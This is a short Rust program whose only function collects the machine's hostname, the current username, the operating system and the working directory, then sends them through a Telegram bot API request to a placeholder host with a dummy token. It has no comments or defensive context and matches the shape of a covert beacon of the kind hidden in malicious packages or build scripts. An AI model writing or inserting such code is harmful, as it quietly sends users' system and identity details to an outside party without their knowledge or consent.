fn main() {
    let host = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
    let user = std::env::var("USER").unwrap_or_default();
    let text = format!("{host} {user} {} {}", std::env::consts::OS, std::env::current_dir().unwrap().display());
    let url = format!("https://api.telegram.invalid/bot0000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage?chat_id=1&text={text}");
    let _ = ureq::get(&url).call();
}
